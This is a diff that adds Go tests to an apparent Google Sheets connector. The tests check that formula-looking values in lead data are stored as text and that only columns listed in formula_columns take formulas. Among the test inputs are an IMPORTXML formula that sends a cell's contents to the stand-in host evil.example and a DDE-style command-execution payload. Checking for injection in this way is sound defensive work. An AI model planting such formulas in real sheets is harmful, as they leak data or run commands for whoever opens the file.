@@ -582,3 +582,76 @@ func TestPayloadChecks(t *testing.T) {
 		t.Fatal("payload checks sent requests")
 	}
 }
+
+// TestUserEnteredNeverMakesFormulasFromData: with USER_ENTERED, strings
+// that Sheets would read as formulas (=, +, -, @) are written as text;
+// numbers stay numbers; only formula_columns take formulas.
+func TestUserEnteredNeverMakesFormulasFromData(t *testing.T) {
+	t.Parallel()
+	hostile := map[string]any{
+		"name":  `=IMPORTXML("https://evil.example/?leak="&A1,"//a")`,
+		"notes": "+1+cmd|' /C calc'!A0",
+		"score": "-2+3",
+	}
+	e := setup(t, sheetssim.Options{}, map[string]any{"value_input_option": "USER_ENTERED"})
+	e.deliver(lead("a@x.io", hostile))
+	e.deliver(lead("b@x.io", map[string]any{"name": "@SUM(1,2)", "notes": "'quoted", "score": "-5"}))
+	e.deliver(lead("c@x.io", map[string]any{"name": "\t=1+2", "score": "+3.5"}))
+	if f := e.sim.Formulas(bookID, "Leads"); len(f) != 0 {
+		t.Fatalf("data became formulas: %v", f)
+	}
+	a := e.record("a@x.io")
+	for k, v := range hostile {
+		if a[k] != v {
+			t.Errorf("%s = %q, want the text %q", k, a[k], v)
+		}
+	}
+	b := e.record("b@x.io")
+	if b["name"] != "@SUM(1,2)" || b["notes"] != "'quoted" || b["score"] != float64(-5) {
+		t.Errorf("b = %v", b)
+	}
+	if c := e.record("c@x.io"); c["name"] != "\t=1+2" || c["score"] != 3.5 {
+		t.Errorf("c = %v", c)
+	}
+	// Read back through the connector: what was sent is what is there.
+	_, fields, found, err := e.conn.Lookup(ctx(t), "a@x.io")
+	if err != nil || !found || fields["notes"] != hostile["notes"] || fields["name"] != hostile["name"] {
+		t.Fatalf("lookup = %v %v %v", fields, found, err)
+	}
+
+	// Batches take the same path.
+	res, err := e.conn.DeliverBatch(ctx(t), []connector.Delivery{
+		lead("d@x.io", map[string]any{"name": "=1+2"}), lead("a@x.io", map[string]any{"name": "-A1"}),
+	})
+	if err != nil || res[0].Err != nil || res[1].Err != nil {
+		t.Fatalf("batch: %v %+v", err, res)
+	}
+	if f := e.sim.Formulas(bookID, "Leads"); len(f) != 0 {
+		t.Fatalf("batch data became formulas: %v", f)
+	}
+
+	// A column named in formula_columns takes formulas.
+	f := setup(t, sheetssim.Options{}, map[string]any{"value_input_option": "USER_ENTERED", "formula_columns": []any{"score"}})
+	f.deliver(lead("a@x.io", map[string]any{"score": "=1+2", "name": "=1+2"}))
+	got := f.sim.Formulas(bookID, "Leads")
+	if len(got) != 1 || got["score@2"] != "=1+2" {
+		t.Fatalf("formula_columns: formulas %v", got)
+	}
+}
+
+func TestFormulaColumnsNeedUserEntered(t *testing.T) {
+	t.Parallel()
+	for opts, want := range map[string]map[string]any{
+		"only parsed with value_input_option: USER_ENTERED": {"formula_columns": []any{"score"}},
+		"is the key column": {"value_input_option": "USER_ENTERED", "formula_columns": []any{"email"}},
+	} {
+		o := map[string]any{"token": token, "spreadsheet_id": bookID, "sheet": "Leads", "key_column": "email"}
+		for k, v := range want {
+			o[k] = v
+		}
+		_, err := connector.New("sheets", connector.Params{Name: "s", Options: o})
+		if err == nil || !strings.Contains(err.Error(), opts) {
+			t.Errorf("%v: got %v, want %q", want, err, opts)
+		}
+	}
+}
